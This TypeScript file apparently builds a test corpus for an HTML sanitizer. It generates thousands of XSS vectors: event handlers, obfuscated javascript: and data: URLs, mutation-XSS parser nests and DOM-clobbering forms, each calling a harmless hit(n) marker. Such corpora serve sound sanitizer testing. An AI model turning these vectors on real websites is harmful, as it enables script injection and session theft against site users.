/** HTML that tries to run `hit(n)`; made by crossing ways in, so that each is tried in each place. */

const HANDLERS = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onbegin',
  'onanimationstart',
  'onpointerrawupdate',
  'onbeforetoggle',
  'oncontentvisibilityautostatechange',
  'onscrollend',
];
const ELEMENTS = [
  'img',
  'svg',
  'math',
  'body',
  'video',
  'audio',
  'iframe',
  'object',
  'embed',
  'input',
  'details',
  'a',
  'p',
  'marquee',
  'select',
  'textarea',
  'button',
  'form',
  'source',
  'image',
  'isindex',
  'keygen',
  'dialog',
  'style',
  'link',
  'meta',
  'table',
  'td',
  'custom-element',
  'xss',
  'annotation-xml',
  'mtext',
  'foreignObject',
  'animate',
  'set',
  'use',
];
const ATTRIBUTES = [
  'href',
  'src',
  'data',
  'action',
  'formaction',
  'xlink:href',
  'srcdoc',
  'poster',
  'background',
  'code',
  'cite',
  'longdesc',
  'srcset',
  'data-src',
  'ping',
  'values',
  'to',
  'from',
  'by',
  'style',
  'manifest',
  'profile',
  'lowsrc',
  'dynsrc',
];
const LINKS = [
  'a',
  'area',
  'img',
  'svg',
  'use',
  'animate',
  'iframe',
  'embed',
  'object',
  'form',
  'button',
  'input',
  'math',
  'maction',
  'mi',
  'mrow',
  'base',
  'link',
  'q',
  'video',
];

/** One scheme in the guises that parsers see through. */
const addresses = (n: number): readonly string[] => [
  `javascript:hit(${n})`,
  `JaVaScRiPt:hit(${n})`,
  ` javascript:hit(${n})`,
  `\u0001javascript:hit(${n})`,
  `java\tscript:hit(${n})`,
  `java\nscript:hit(${n})`,
  `java&#10;script:hit(${n})`,
  `&#106;&#97;&#118;&#97;script:hit(${n})`,
  `&#x6A;avascript&colon;hit(${n})`,
  `javascript&#0058;hit(${n})`,
  `javascript://%0Ahit(${n})`,
  `\u00a0javascript:hit(${n})`,
  `\u2028javascript:hit(${n})`,
  `data:text/html,<script>parent.hit(${n})</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0KDEpPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="parent.hit(${n})"/>`,
  `vbscript:hit(${n})`,
  `view-source:javascript:hit(${n})`,
  `blob:javascript:hit(${n})`,
  `https:javascript:hit(${n})`,
  `feed:javascript:hit(${n})`,
];

/** A live vector, put into nests that parse otherwise the second time. */
const nests = (live: string): readonly string[] => [
  `<math><mtext><table><mglyph><style><!--</style>${live}--></style></mglyph></table></mtext></math>`,
  `<math><mtext><table><mglyph><style><math><table id="</table>${live}">`,
  `<form><math><mtext></form><form><mglyph><style></math>${live}`,
  `<svg></p><style><a id="</style>${live}">`,
  `<svg><p><style><a title="</style>${live}"></style></p></svg>`,
  `<noscript><p title="</noscript>${live}"></noscript>`,
  `<noembed><p title="</noembed>${live}">`,
  `<noframes><p title="</noframes>${live}">`,
  `<xmp><p title="</xmp>${live}">`,
  `<iframe><p title="</iframe>${live}">`,
  `<title><p title="</title>${live}">`,
  `<textarea><p title="</textarea>${live}">`,
  `<plaintext>${live}`,
  `<template>${live}</template>`,
  `<template shadowrootmode="open">${live}</template>`,
  `<div><template shadowrootmode="closed" shadowrootclonable>${live}</template></div>`,
  `<!--><p>--!>${live}`,
  `<!--${'-'.repeat(3)}!>${live}-->`,
  `<![CDATA[>${live}]]>`,
  `<svg><![CDATA[><p>${live}]]></svg>`,
  `<svg><desc>${live}</desc></svg>`,
  `<svg><foreignObject>${live}</foreignObject></svg>`,
  `<svg><title>${live}</title></svg>`,
  `<math><annotation-xml encoding="text/html">${live}</annotation-xml></math>`,
  `<math><mi>${live}</mi></math>`,
  `<math><mtext><mglyph></mglyph>${live}</mtext></math>`,
  `<select><option>${live}</option></select>`,
  `<select><style></select>${live}</style>`,
  `<table><caption>${live}</caption><tr><td>${live}</td></tr></table>`,
  `<table>${live}</table>`,
  `<a href="#"><a>${live}</a></a>`,
  `<p id="x${live}">`,
  `<p title='"><!--${live}-->'>`,
  `<img alt="\`${live}">`,
  `<div data-kept-formula="0">${live}</div><math alttext="${live.replaceAll('"', '&quot;')}"><mi>x</mi></math>`,
  `<span class="MathJax" data-mathml="${live.replaceAll('"', '&quot;')}">x</span>`,
  `<script type="math/tex">${live}</script>`,
  `<noscript>${live}</noscript>`,
  `<pre><code><span class="line">${live}</span></code></pre>`,
  `<xml><${'div><'.repeat(3)}p>${live}`,
  `${'<div>'.repeat(250)}${live}`,
  `${'<math><mi>'.repeat(60)}${live}`,
  `<?xml version="1.0"?>${live}`,
  `<svg/onload=hit>${live}`,
  `<object data="x">${live}</object>`,
  `<details open ontoggle=hit()>${live}`,
];

/** Names that would stand before properties of the document, the window or a form. */
const CLOBBERED = [
  'body',
  'cookie',
  'getElementById',
  'querySelector',
  'createElement',
  'attributes',
  'childNodes',
  'parentNode',
  'nodeName',
  'hit',
  'location',
  'browser',
  'chrome',
  'removeChild',
  'namespaceURI',
  'firstChild',
];

/** All attacks, numbered from 1. */
export function attacks(): string[] {
  const all: string[] = [];
  const add = (make: (n: number) => string) => all.push(make(all.length + 1));
  for (const element of ELEMENTS) {
    for (const handler of HANDLERS) {
      add(
        (n) => `<${element} src=x:x ${handler}=hit(${n}) autofocus open tabindex=0>x</${element}>`,
      );
      add((n) => `<${element}/src="x:x"/${handler.toUpperCase()}="hit(${n})">`);
    }
  }
  for (const element of LINKS) {
    for (const attribute of ATTRIBUTES) {
      for (const index of addresses(0).keys()) {
        add(
          (n) =>
            `<${element} ${attribute}="${addresses(n)[index]?.replaceAll('"', '&quot;')}">x</${element}>`,
        );
      }
    }
  }
  const live = [
    (n: number) => `<img src=x:x onerror=hit(${n})>`,
    (n: number) => `<script>hit(${n})</script>`,
    (n: number) => `<svg onload=hit(${n})>`,
    (n: number) => `<iframe srcdoc="<script>parent.hit(${n})</script>"></iframe>`,
  ];
  for (const one of live) {
    for (const index of nests('').keys()) {
      add((n) => nests(one(n))[index] ?? '');
      for (const other of [7, 0, 28, 22])
        add((n) => nests(nests(one(n))[index] ?? '')[other] ?? '');
    }
  }
  for (const name of CLOBBERED) {
    add(
      (n) =>
        `<form id="${name}" name="${name}"><input name="${name}"></form><img name="${name}" src=x:x onerror=hit(${n})>`,
    );
    add(
      (n) =>
        `<a id="${name}" href="#${name}">x</a><a id="${name}" name="x" href="x:hit(${n})">y</a>`,
    );
  }
  return all;
}
